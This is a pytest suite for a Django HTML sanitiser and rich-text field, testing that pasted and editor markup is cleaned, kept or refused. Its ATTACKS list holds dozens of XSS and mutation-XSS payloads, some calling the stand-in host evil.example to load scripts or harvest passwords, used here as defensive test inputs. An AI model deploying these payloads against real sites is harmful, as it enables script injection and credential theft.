"""Rich text: what an attacker, a word processor and an editor paste, and what is kept of it."""

import re
import time
from html.parser import HTMLParser
from types import SimpleNamespace

import html5lib
import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.db import connection, models
from django.db.models import F
from django.test.utils import isolate_apps
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st

from languages.codes import column, column_languages
from languages.rich_text import (
    ALLOWED,
    ATTRIBUTES,
    LONGEST,
    VOID,
    RichTextField,
    UncleanableHTML,
    is_blank,
    plain_text,
    sanitise,
    without_idle_headings,
)

NBSP = "\u00a0"


@pytest.fixture(autouse=True)
def messages_in_english():
    with translation.override("en"):
        yield


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<p style='position:fixed;inset:0;z-index:9999'>covers the page</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div class='site-header' id='main'>pretends</div>",
    "<a id=location name=cookie href='/x'>clobbers</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='record:javascript:alert(1)'>x</a>",
    "<a href='record://evil.example/x'>x</a>",
    "<a href='record:positions.position/x&quot; onclick=&quot;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='/&#9;/evil.example/'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https:///evil.example'>x</a>",
    "<a href='/x' target=_blank rel=opener>x</a>",
    "<a href='/x' onclick='alert(1)' onmouseover=alert(1)>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button>Send</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<p lang='fr\" onclick=\"alert(1)'>x</p>",
    '<p lang="\'><script>alert(1)</script>" dir=evil>x</p>',
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<table><td colspan=99999999 rowspan=99999999>x</table>",
    "<a href='/x'><a href='javascript:alert(1)'>x</a></a>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<p>\ufeff<im\u0000g src=x onerror=alert(1)>",
    '<a href="https://example.org/?q=<script>">x</a>',
]

FRAGMENTS = st.lists(
    st.one_of(
        st.sampled_from(ATTACKS),
        st.text(max_size=8),
        st.sampled_from(
            [
                f"<{slash}{tag}{attributes}>"
                for slash in ("", "/")
                for tag in (
                    *sorted(ALLOWED),
                    "b",
                    "i",
                    "h1",
                    "div",
                    "svg",
                    "math",
                    "style",
                    "button",
                    "form",
                    "option",
                )
                for attributes in ("", " lang=fr", " href='/x'", " title='<b>'")
            ]
        ),
        st.sampled_from(
            ["&nbsp;", "&amp;nbsp;", "&lt;", "<", ">", '"', "\n", "\r", "<!--", "-->", "&#13;", "<br>"]
        ),
    ),
    max_size=25,
).map("".join)


class Reader(HTMLParser):
    """Everything that a cleaned text still holds."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")


def assert_harmless(html):
    allowed_anywhere = ATTRIBUTES["*"]
    for tag, attributes in Reader(html).found:
        assert tag in ALLOWED
        assert set(attributes) <= allowed_anywhere | ATTRIBUTES.get(tag, set())
        if "href" in attributes:
            assert re.match(
                r"https?://[^/\\]|mailto:|tel:|/(?![/\\])|#|record:[a-z_]+\.[a-z_]+/[A-Za-z0-9_-]+\Z",
                attributes["href"],
                re.IGNORECASE,
            )
            assert not re.search(r"[\t\n\r]", attributes["href"])
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():  # as a browser reads it
        if isinstance(element.tag, str) and element.tag != "DOCUMENT_FRAGMENT":
            assert element.tag in ALLOWED


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_behind_and_cleaning_twice_changes_nothing(attack):
    for html in (attack, f"<p>before {attack} after</p>", f"<table><tr><td>{attack}</td></tr></table>"):
        cleaned = sanitise(html)
        assert_harmless(cleaned)
        assert sanitise(cleaned) == cleaned


@settings(max_examples=400, deadline=None)
@given(FRAGMENTS)
def test_any_tangle_of_tags_is_cleaned_once_and_for_all(html):
    cleaned = sanitise(html)
    assert_harmless(cleaned)
    assert sanitise(cleaned) == cleaned


@settings(deadline=None)
@given(st.text())
def test_any_text_survives_in_a_paragraph(text):
    cleaned = sanitise(text)
    assert sanitise(cleaned) == cleaned
    assert_harmless(cleaned)


@pytest.mark.parametrize(
    "html",
    [
        "<p>Un <strong>droit</strong>, un <em>devoir</em>.</p>",
        '<p lang="nl">Vrede</p>',
        '<p dir="rtl" lang="ar">سلام</p>',
        '<p>Le <span lang="en">community mapping</span></p>',
        "<h2>Titre</h2><h3>Sous-titre</h3><h4>Intertitre</h4>",
        '<ul><li>un</li></ul><ol start="3" type="a"><li>trois</li></ol>',
        '<a href="https://example.org/?a=1&amp;b=2" hreflang="fr">lien</a>',
        '<a href="mailto:info@example.org">e-mail</a>',
        '<a href="tel:+3220000000">téléphone</a>',
        '<a href="/fr/positions/">interne</a>',
        '<a href="#note-1">note</a>',
        '<a href="record:positions.position/eau_et-paix">fiche</a>',
        "<blockquote><p>Cité</p></blockquote>",
        "<figure><blockquote>Cité</blockquote><figcaption><cite>Livre</cite></figcaption></figure>",
        '<table><caption>Titre</caption><thead><tr><th scope="col" colspan="2">A</th></tr></thead>'
        '<tbody><tr><td rowspan="2">1</td></tr></tbody></table>',
        '<p>n<sup>o</sup> CO<sub>2</sub> <q>mot</q> <abbr title="Organisation">ONG</abbr></p>',
        "<p>a<br>b</p><hr><pre><code>x\n  y</code></pre>",
        "<dl><dt>mot</dt><dd>sens</dd></dl><p><del>a</del><ins>b</ins></p>",
        f"<p>« Paix{NBSP}» et l’eau</p>",
        "",
    ],
)
def test_what_editors_write_is_kept_as_it_is(html):
    assert sanitise(html) == html


@pytest.mark.parametrize(
    ("pasted", "kept"),
    [
        ("<b>gras</b> <i>italique</i>", "<strong>gras</strong> <em>italique</em>"),
        ("<h1>Titre</h1><h5>a</h5><h6>b</h6>", "<h2>Titre</h2><h4>a</h4><h4>b</h4>"),
        ("<h2>&nbsp;</h2><p>x</p><h3><br></h3><h4><b> </b></h4>", "<p>x</p>"),
        ("<p></p>", ""),
        ("<p>&nbsp;</p><p>x</p><p><br></p>", "<p>x</p>"),
        ("<p>\u200b</p>", ""),
        ("<a href='/x'></a>mot", "mot"),
        ("<p>a<a href='/x'> </a>b</p>", "<p>a b</p>"),
        ("<a name=ancre>mot</a>", "mot"),
        ("<span class=MsoNormal>mot</span>", "mot"),
        ("<span lang='xx yy'>mot</span>", "mot"),
        ("<p lang='klingon_KL' dir=up>mot</p>", "<p>mot</p>"),
        ("<p DIR=RTL>x</p>", '<p dir="rtl">x</p>'),
        ("<p>12&nbsp;%&#160;et&#xa0;plus</p>", f"<p>12{NBSP}%{NBSP}et{NBSP}plus</p>"),
        ("<p>&amp;nbsp;</p>", "<p>&amp;nbsp;</p>"),
        ("<font color=red><o:p>mot</o:p></font>", "mot"),
        ("<div><p>un</div><div>deux</div>", "<p>un</p>deux"),
        ("<p>jamais fermé", "<p>jamais fermé</p>"),
        ("2 < 3 & 4 > 1", "2 &lt; 3 &amp; 4 &gt; 1"),
        ("<a href=' https://example.org '>x</a>", '<a href="https://example.org">x</a>'),
        ("<td>hors tableau</td>", "hors tableau"),
    ],
)
def test_what_is_pasted_is_put_right(pasted, kept):
    assert sanitise(pasted) == kept


def test_words_of_a_script_or_a_form_list_are_no_text():
    assert (
        sanitise("<p>x</p><script>var y</script><style>p{}</style><select><option>z</select>") == "<p>x</p>"
    )


@pytest.mark.parametrize(
    "html",
    [
        "x" * (LONGEST + 1),
        "<p>" * 30_000,
        "<blockquote>" * 500 + "x",
        "".join(f"<font x={n}>" for n in range(1000)) + "<p>x" * 1000,
        "".join(f'<b a" x=">{n}">' for n in range(1000)) + "<p>x" * 1000,
        "&" * 200_000,
        ">" * 300_000,
    ],
    ids=["long", "tags", "deep", "reopened", "disguised", "entities", "grows"],
)
def test_a_text_bomb_is_refused_quickly(html):
    started = time.perf_counter()
    with pytest.raises(UncleanableHTML):
        sanitise(html)
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize(
    "html",
    ["<div>" * 9_000, "<a href=/x>x" * 3_000, "<p>x" * 9_000, "<" * 9_000, "<p " + "a=1 " * 100_000 + ">x"],
)
def test_a_long_tangle_within_the_bounds_is_cleaned_quickly(html):
    started = time.perf_counter()
    sanitise(html)
    assert time.perf_counter() - started < 5


def test_a_long_article_pasted_from_a_word_processor_is_not_taken_for_a_bomb():
    paragraph = "<p class=x><font color=red><b>mot</b></font> <i>mot</i> <span lang=fr>mot</span></p>"
    assert sanitise(paragraph * 400).count("<p>") == 400


def test_the_words_of_a_text_are_read_without_its_markup():
    html = (
        "<h2>Eau &amp; paix</h2><p>Un <strong>dr</strong>oit.<br>"
        f"Et{NBSP}plus &lt;</p><ul><li>a</li><li>b</li></ul>"
    )
    assert plain_text(html) == f"Eau & paix Un droit. Et{NBSP}plus < a b"
    assert plain_text("<script>alert(1)</script><p>x</p>") == "x"
    assert plain_text("simple &amp; court") == "simple & court"


@pytest.mark.parametrize("html", [None, "", "  ", "<p></p>", "<p>&nbsp;<br></p>", "<p>\u200b</p>", "<hr>"])
def test_markup_without_a_visible_character_is_blank(html):
    assert is_blank(html)


def test_a_text_with_a_word_is_not_blank():
    assert not is_blank("<p>x</p>")


# --- the field ---------------------------------------------------------------------------------

DIRTY, CLEAN = "<p onclick=x>mot</p><script>x</script>", "<p>mot</p>"


def make_field(cls=RichTextField, **options):
    field = cls(**options)
    field.set_attributes_from_name("body")
    return field


def test_saving_a_record_cleans_its_text_and_the_record_in_hand():
    record = SimpleNamespace(body=DIRTY)
    assert make_field().pre_save(record, add=True) == CLEAN
    assert record.body == CLEAN


def test_updates_that_bypass_save_are_cleaned_too():
    assert make_field().get_db_prep_save(DIRTY, connection) == CLEAN


def test_no_text_in_a_language_stays_null():
    field = make_field(null=True)
    record = SimpleNamespace(body=None)
    assert field.pre_save(record, add=True) is None
    assert field.get_db_prep_save(None, connection) is None


def test_an_expression_is_left_to_the_database():
    expression = F("title")
    assert make_field().pre_save(SimpleNamespace(body=expression), add=False) is expression


def test_an_empty_paragraph_does_not_answer_a_required_field():
    with pytest.raises(ValidationError):
        make_field().clean("<p>&nbsp;</p>", None)
    assert make_field().clean(DIRTY, None) == CLEAN


def test_a_bomb_is_an_error_in_a_form_and_is_never_saved():
    with pytest.raises(ValidationError, match="too long or too tangled"):
        make_field().clean("<p>" * 30_000, None)
    with pytest.raises(UncleanableHTML):
        make_field().pre_save(SimpleNamespace(body="<p>" * 30_000), add=True)


def test_a_migration_names_the_field_and_nothing_else():
    _, path, args, kwargs = RichTextField().deconstruct()
    assert (path, list(args), kwargs) == ("languages.rich_text.RichTextField", [], {})


def test_the_admin_may_choose_another_widget():
    class Editor(forms.Textarea):
        pass

    class EditedField(RichTextField):
        form_widget = Editor

    assert type(make_field().formfield().widget) is forms.Textarea
    assert type(make_field(EditedField).formfield().widget) is Editor


@isolate_apps("languages")
def test_the_column_of_each_language_cleans_as_the_field_does():
    from modeltranslation.fields import field_factory

    cloned = field_factory(RichTextField)
    for method in ("pre_save", "get_db_prep_save", "clean"):
        assert getattr(cloned, method) is getattr(RichTextField, method)
    assert issubclass(cloned, models.TextField)
    assert column("body", column_languages()[0]).startswith("body_")


def test_empty_elements_are_the_two_that_html_leaves_empty():
    assert {"br", "hr"} == VOID


@pytest.mark.parametrize(
    ("stored", "read"),
    [
        ("<h2>Seul</h2>", ""),
        ("<h2>Deux</h2><h3>Alone</h3>", ""),
        ("<p>x</p><h2>Fin</h2>", "<p>x</p>"),
        ("<h2>Un</h2><p>x</p><blockquote><h3>Cité</h3></blockquote>", "<h2>Un</h2><p>x</p>"),
        ("<h2>Titre</h2><h3>Sous-titre</h3><p>x</p>", "<h2>Titre</h2><h3>Sous-titre</h3><p>x</p>"),
    ],
)
def test_readers_see_no_heading_above_nothing_and_editors_keep_theirs(stored, read):
    assert without_idle_headings(sanitise(stored)).startswith(read)
    assert "<h" not in without_idle_headings(sanitise(stored))[len(read) :]
    assert sanitise(stored).count("<h") == stored.count("<h")
